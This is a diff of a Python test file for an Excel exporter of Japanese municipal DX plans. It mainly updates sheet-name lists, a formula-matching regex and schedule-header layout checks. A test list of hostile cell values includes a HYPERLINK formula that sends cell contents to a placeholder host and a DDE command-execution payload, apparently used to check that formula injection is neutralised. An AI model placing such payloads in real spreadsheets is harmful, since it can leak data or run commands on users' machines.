@@ -22,11 +22,12 @@ from dxplanner.model import Plan
 from dxplanner.paths import sample_plan_json
 
 TODAY = datetime.date(2025, 11, 26)
-SHEETS_JA = ["団体概要", "推進体制", "デジタル人材", "工程表", "KPI", "予算・財源", "標準化", "オンライン化", "チェック結果"]
+SHEETS_JA = ["団体概要", "団体概要（一行）", "推進体制", "デジタル人材", "工程表", "KPI", "予算・財源", "標準化", "オンライン化",
+             "チェック結果"]
 HOSTILE = ["=1+1", "+1", "-1+2", "@SUM(A1)", '=HYPERLINK("http://example.invalid/?x="&A1,"click")', "#N/A",
            "=cmd|' /C calc'!A0", "\t=1+1"]
-# our own formulas: totals and counts over ranges of the sheet itself
-OWN_FORMULA = re.compile(r"^(SUM|COUNTIF|IFERROR\(AVERAGE)\(\$?[A-Z]+\$?\d+:\$?[A-Z]+\$?\d+")
+# our own formulas: totals and counts over ranges of the sheet itself, and the one-row 団体概要's references
+OWN_FORMULA = re.compile(r"^((SUM|COUNTIF|IFERROR\(AVERAGE)\(\$?[A-Z]+\$?\d+:\$?[A-Z]+\$?\d+|'(団体概要|Overview)'!\$B\$\d+$)")
 
 
 def sample_plan() -> Plan:
@@ -146,18 +147,18 @@ def test_font_and_date_columns(sample_book):
     assert wb["団体概要"]["A1"].font.name == FONT_NAME
 
 
-def test_schedule_wareki_headers_merged_and_frozen(sample_book):
+def test_schedule_wareki_headers_centred_unmerged_filtered_and_frozen(sample_book):
     path, _plan = sample_book
     ws = loaded(path)["工程表"]
     assert ws.freeze_panes == "I7"
     assert ws.column_dimensions["A"].hidden
     heads = {c.value: c.column for c in ws[5] if isinstance(c.value, str) and c.value.endswith("年度")}
     assert list(heads) == [f"令和{n}年度" for n in range(4, 10)]  # plan 2022–2027
-    merged = {str(m) for m in ws.merged_cells.ranges}
     first = heads["令和4年度"]
-    from openpyxl.utils import get_column_letter as L
 
-    assert f"{L(first)}5:{L(first + 11)}5" in merged
+    assert not ws.merged_cells.ranges  # a prefecture sorts, filters and copies the table
+    assert all(ws.cell(5, first + i).alignment.horizontal == "centerContinuous" for i in range(12))
+    assert ws.auto_filter.ref.startswith("B6:") and ws.cell(6, 3).value == "取組"
     assert [ws.cell(6, first + i).value for i in range(12)] == [str(m) for m in (*range(4, 13), 1, 2, 3)]
     # the as-of month (令和7年11月) is highlighted in the month header
     today_col = first + 3 * 12 + 7
@@ -325,7 +326,7 @@ def test_metadata_survey_matches_the_plan(sample_book):
 def test_english_workbook(tmp_path):
     path, _ = export(sample_plan(), tmp_path, lang="en")
     wb = openpyxl.load_workbook(path)
-    assert wb.sheetnames[:4] == ["Overview", "Organisation", "Digital talent", "Schedule"]
+    assert wb.sheetnames[:5] == ["Overview", "Overview (one row)", "Organisation", "Digital talent", "Schedule"]
     assert wb["Schedule"].oddFooter.center.text == "Page &P of &N"
 
 
